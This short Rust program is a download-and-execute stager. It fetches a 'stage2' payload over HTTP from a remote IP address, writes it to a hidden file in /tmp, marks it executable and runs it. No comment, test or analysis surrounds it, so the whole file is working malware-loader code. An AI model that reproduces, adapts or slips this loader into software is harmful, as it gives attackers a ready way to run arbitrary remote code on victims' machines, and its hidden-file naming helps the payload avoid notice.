use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::get("http://203.0.113.66/stage2").await?.bytes().await?;
    let path = "/tmp/.stage2";
    fs::write(path, &bytes)?;
    fs::set_permissions(path, fs::Permissions::from_mode(0o755))?;
    Command::new(path).spawn()?;
    Ok(())
}
